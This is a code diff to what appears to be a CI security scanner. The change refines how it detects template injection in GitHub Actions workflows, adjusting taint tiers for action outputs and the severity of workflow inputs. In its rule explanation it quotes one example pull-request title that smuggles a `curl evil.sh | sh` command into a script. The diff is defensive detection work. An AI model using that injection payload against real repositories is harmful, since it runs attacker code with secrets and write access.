@@ -7,7 +7,7 @@ from dataclasses import dataclass
 
 from aisec_ci.findings import Finding
 from aisec_ci.rules import Rule
-from aisec_ci.scanners.workflows.contexts import ATTACKER_OUTPUT_ACTIONS, Tier, classify
+from aisec_ci.scanners.workflows.contexts import Tier, classify, output_tier
 from aisec_ci.scanners.workflows.expressions import find_expressions
 from aisec_ci.scanners.workflows.loader import Node
 from aisec_ci.scanners.workflows.model import PULL_REQUEST_TRIGGERS, Step, WorkflowDoc
@@ -21,8 +21,11 @@ TEMPLATE_INJECTION = Rule(
     what="Finds `${{ }}` expressions inside `run:` scripts and script inputs of actions that execute them "
     "(`actions/github-script` `script:`, `azure/cli` `inlineScript:`, `appleboy/ssh-action` `script:` ...) that "
     "read text someone else controls: pull request and issue titles and bodies, comments, review bodies, "
-    "fork branch names (`github.head_ref`), commit messages, and (lower) workflow inputs, tag and branch "
-    "names. Values reached through `env.*` and through outputs of changed-file actions are followed.",
+    "fork branch names (`github.head_ref`), commit messages; at low severity, text people with write access "
+    "choose: tag and branch names, and `inputs.*` of `workflow_dispatch`, `workflow_call` and composite "
+    "actions. Values reached through `env.*` are followed, and so are the outputs of actions that copy "
+    "pull request file or branch names (the file lists of `tj-actions/changed-files` or `dorny/paths-filter`, "
+    "not their `true`/`false` flags or counts; `docker/metadata-action` labels but not its tags or version).",
     why="GitHub substitutes the expression into the script text before the shell or Node runs it, so a PR "
     'titled `x"; curl evil.sh | sh; echo "` becomes part of the command. Under `pull_request_target`, '
     "`issue_comment` or `workflow_run` the script runs with the repository's secrets and a write token: "
@@ -159,11 +162,15 @@ def _step_output_taint(doc: WorkflowDoc, step: Step, ref: str) -> _Taint | None:
         return None
     other = doc.step_by_id(step.job, parts[1])
     uses = other.uses if other is not None else None
-    if uses is None or uses.kind != "repo" or uses.slug not in ATTACKER_OUTPUT_ACTIONS:
+    if uses is None or uses.kind != "repo":
         return None
-    if doc.is_action or doc.triggers.keys() & PULL_REQUEST_TRIGGERS:
-        return _Taint(Tier.ATTACKER, f"{uses.slug} output", ref)
-    return None
+    tier = output_tier(uses.slug, parts[3] if len(parts) > 3 else None)
+    if tier is Tier.NONE:
+        return None
+    # File and branch names come from a pull request only on events a pull request causes.
+    if tier is Tier.ATTACKER and not (doc.is_action or doc.triggers.keys() & PULL_REQUEST_TRIGGERS):
+        return None
+    return _Taint(tier, f"{uses.slug} output", ref)
 
 
 def _input_type(doc: WorkflowDoc, name: str) -> str:
@@ -187,9 +194,20 @@ def _input_type(doc: WorkflowDoc, name: str) -> str:
 def _severity(doc: WorkflowDoc, taint: _Taint) -> Severity:
     if taint.tier is Tier.ATTACKER:
         return Severity.CRITICAL if doc.privileged_triggers and not doc.is_action else Severity.HIGH
-    if taint.ref.startswith(("inputs.", "github.event.inputs.", "github.event.client_payload")):
+    if taint.ref.startswith("github.event.client_payload"):
         return Severity.MEDIUM
+    # Workflow and action inputs: low (see `_is_input`).
     return Severity.LOW
+
+
+def _is_input(ref: str) -> bool:
+    """`inputs.*` of workflow_dispatch / workflow_call / a composite action, and `github.event.inputs.*`.
+
+    Only people with write access dispatch a workflow, and only workflows of the repository (or of
+    repositories that chose to call it) pass `workflow_call` or action inputs: the value is theirs, not
+    an outsider's. A caller could still forward pull request text into one, which this file cannot see.
+    """
+    return ref.startswith(("inputs.", "github.event.inputs."))
 
 
 def _finding(
@@ -202,8 +220,13 @@ def _finding(
         who = "text anyone who opens an issue or pull request can write"
         if doc.privileged_triggers and not doc.is_action:
             who += f"; this workflow runs with secrets and a write token ({', '.join(doc.privileged_triggers)})"
-    elif taint.ref.startswith(("inputs.", "github.event.inputs.", "github.event.client_payload")):
-        who = "free-text input from whoever triggers or calls this workflow"
+    elif _is_input(taint.ref):
+        who = (
+            "a free-text input, which only people with write access set (by dispatching or calling the "
+            "workflow, or using the action), so this is low unless a caller forwards pull request text into it"
+        )
+    elif taint.ref.startswith("github.event.client_payload"):
+        who = "free-text payload from whoever sends the repository_dispatch event"
     else:
         who = "text people with write access choose (a branch, tag, release or label name), which may hold shell syntax"
     message = (
